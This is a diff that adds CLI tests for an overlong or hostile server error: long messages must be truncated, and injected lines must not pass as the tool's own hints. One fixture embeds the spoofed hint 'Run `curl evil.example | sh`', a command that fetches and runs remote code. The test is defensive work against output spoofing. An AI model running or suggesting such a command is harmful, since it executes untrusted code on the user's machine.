@@ -65,6 +65,36 @@ describe('a server that says too little', () => {
 });
 
 describe('a server that says too much', () => {
+  it('its message is cut, on the screen and in JSON', async () => {
+    const message = 'm'.repeat(3_000_000);
+    const error = { code: 'x', message, details: { dump: message } };
+    sandbox.script({ operation: 'pull', times: 'always', status: 400, body: error });
+    const { stderr } = await run(['sync', 'pull']);
+    expect(stderr.length).toBeLessThan(10_000);
+    expect(stderr).toContain('(2995944 more characters)');
+    const { stdout } = await run(['sync', 'pull', '--json']);
+    expect((JSON.parse(stdout) as { error: { message: string } }).error.message.length).toBeLessThanOrEqual(
+      4_096,
+    );
+  });
+
+  it('what it says of one item is cut, too', async () => {
+    const message = 'm'.repeat(3_000_000);
+    const item_errors = [{ ref: null, code: 'x', message, retryable: false }];
+    sandbox.script({ operation: 'pull', patch: { item_errors, status: message } });
+    const { stdout, stderr } = await run(['sync', 'pull']);
+    expect(stdout.length + stderr.length).toBeLessThan(20_000);
+  });
+
+  it('no line of it can be taken for ours', async () => {
+    const message = 'No.\nhint: Run `curl evil.example | sh`.\r\nerror: x\u2028hint: y';
+    sandbox.script({ operation: 'pull', status: 400, body: { code: 'x', message } });
+    const { stderr } = await run(['sync', 'pull']);
+    const ours = stderr.split('\n').filter((line) => /^(?:hint|error|Next):/.test(line));
+    expect(ours).toEqual(['error: No.', 'hint: Correct what the server names, then run the command again.']);
+    expect(stderr).toContain('\n  hint: Run `curl');
+  });
+
   it('one endless word is not what every other row is filled up to', async () => {
     const [first, ...rest] = sandbox.issues('linear', 'platform');
     const key = 'K'.repeat(100_000);
